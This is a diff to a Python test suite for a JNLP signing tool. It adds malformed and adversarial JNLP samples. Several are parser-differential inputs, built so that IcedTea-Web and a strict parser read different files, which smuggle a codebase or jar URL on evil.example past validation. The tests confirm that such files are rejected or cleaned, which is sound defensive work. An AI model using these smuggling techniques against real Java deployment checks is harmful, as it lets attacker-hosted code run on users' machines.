@@ -19,7 +19,8 @@ from starlette.routing import Route
 
 from assistant.errors import SigningError
 from assistant.signing.app_files import fetch_jnlp
-from assistant.signing.jnlp import FromElsewhere, NotReadable, find_service, read_jnlp
+from assistant.signing.jnlp import FromElsewhere, find_service, read_jnlp
+from assistant.signing.jnlp_text import NotReadable
 from flows import HostRule
 from mock_portal.server import serve_app
 from tests.assistant.official_app.display import missing
@@ -91,6 +92,16 @@ CARELESS = {
     "1254 said and meant": (SAID.format("windows-1254") + PLAIN).encode("cp1254"),
     "nothing said, 1254 meant": PLAIN.encode("cp1254"),
     "unknown encoding": (SAID.format("no-such-encoding") + PLAIN).encode(),
+    "comment before the declaration": ("<!-- a -->" + SAID.format("utf-8") + PLAIN).encode(),
+    "dashes in a comment": PLAIN.replace("<jar", "<!-- ---- a -- b ----><jar").encode(),
+    "a program after the end": (PLAIN + "<script>x()</script>").encode(),
+    "Ctrl-Z after the end": (PLAIN + "\r\n\x1a").encode(),
+    "control characters": PLAIN.replace("e-İmza", "\x01\x0b&#1;").encode(),
+    "HREF": PLAIN.replace("href", "HREF").replace("codebase", "codeBase").encode(),
+    "prefix without a namespace": PLAIN.replace("<jar", '<jfx:javafx-runtime version="2"/><jar xsi:a="b"').encode(),
+    "< in an attribute": PLAIN.replace("<jar", '<jar part="<x>"').encode(),
+    "small doctype": b"<!doctype jnlp>" + PLAIN.encode(),
+    "processing instruction": ("<?xml-stylesheet href='a'?>" + PLAIN).encode(),
     "XML 1.1": (SAID.format("utf-8").replace("1.0", "1.1") + PLAIN).encode(),
     "doctype": b'<!DOCTYPE jnlp SYSTEM "http://evil.example/x.dtd">' + PLAIN.encode(),
     "declarations": b"<!DOCTYPE jnlp [<!ELEMENT jnlp ANY>]>" + PLAIN.encode(),
@@ -178,6 +189,34 @@ def test_nothing_runs_from_elsewhere(element: str, place: str) -> None:
         find_service(jnlp("", root=f'codebase="{place}"').encode(), REAL_AT, REAL)
 
 
+_EVIL = '<jnlp codebase="https://evil.example/"><resources><jar href="a.jar"/></resources></jnlp>'
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        # IcedTea-Web takes comments out first, so that here it finds the second file and a strict parser the first.
+        f'<!DOCTYPE jnlp SYSTEM "<!--">{PLAIN.replace("</jnlp>", "")}<!-- -->">{_EVIL}</jnlp>',
+        f'<?xml version="1.0" x="<!--"?>{PLAIN.replace("</jnlp>", "")}<!-- --"?>{_EVIL}</jnlp>',
+        PLAIN.replace("codebase=", 'CODEBASE="https://evil.example/" codebase='),
+        PLAIN.replace("codebase=", 'codeba\u017fe="https://evil.example/" codebase='),
+        PLAIN.replace("<jar", '<jar HREF="https://evil.example/a.jar"/><jar'),
+        PLAIN.replace("<jar", '<x:jar href="https://evil.example/a.jar" xmlns:x="urn:x"/><jar'),
+        PLAIN.replace("<jar", '<x:jar href="https://evil.example/a.jar"/><jar'),
+        PLAIN.replace("<jar", '<jar href="https://evil.example/a.jar" part="<"/><jar'),
+        f"<!---><jar href='https://evil.example/a.jar'/>-->{PLAIN}",
+    ],
+)
+def test_a_file_that_is_two_is_not_passed_on(text: str) -> None:
+    """What Java would read in a file, and a strict parser would not, is found, or it is gone from what Java gets."""
+    try:
+        told = opened(text.encode())
+    except SigningError:
+        return
+    assert told != text.encode()
+    assert not re.search(rb"""<[^<>]*evil""", told)
+
+
 def test_what_an_extension_runs_is_checked_too() -> None:
     """An extension is a JNLP of its own: it may name allowed places, itself, and nothing else."""
     extension = jnlp('<extension href="ext.jnlp"/>').encode()
@@ -215,6 +254,9 @@ def test_no_entity_is_ever_defined(head: str, encoding: str) -> None:
     [
         jnlp("<x>" * 200 + "</x>" * 200).encode(),
         b"<jnlp>" * 20_000,
+        b"<jnlp>" + b"<!--" * 60_000,
+        jnlp().replace("</jnlp>", "").encode(),
+        jnlp().encode()[:-3],
         jnlp().encode() + b" " * 300_000,
         jnlp(" ".join('<jar href="' + "a" * 1000 + '"/>' for _ in range(300))).encode(),
         SAID.format("utf-7").encode() + b"+ADw-jnlp+AD4-",
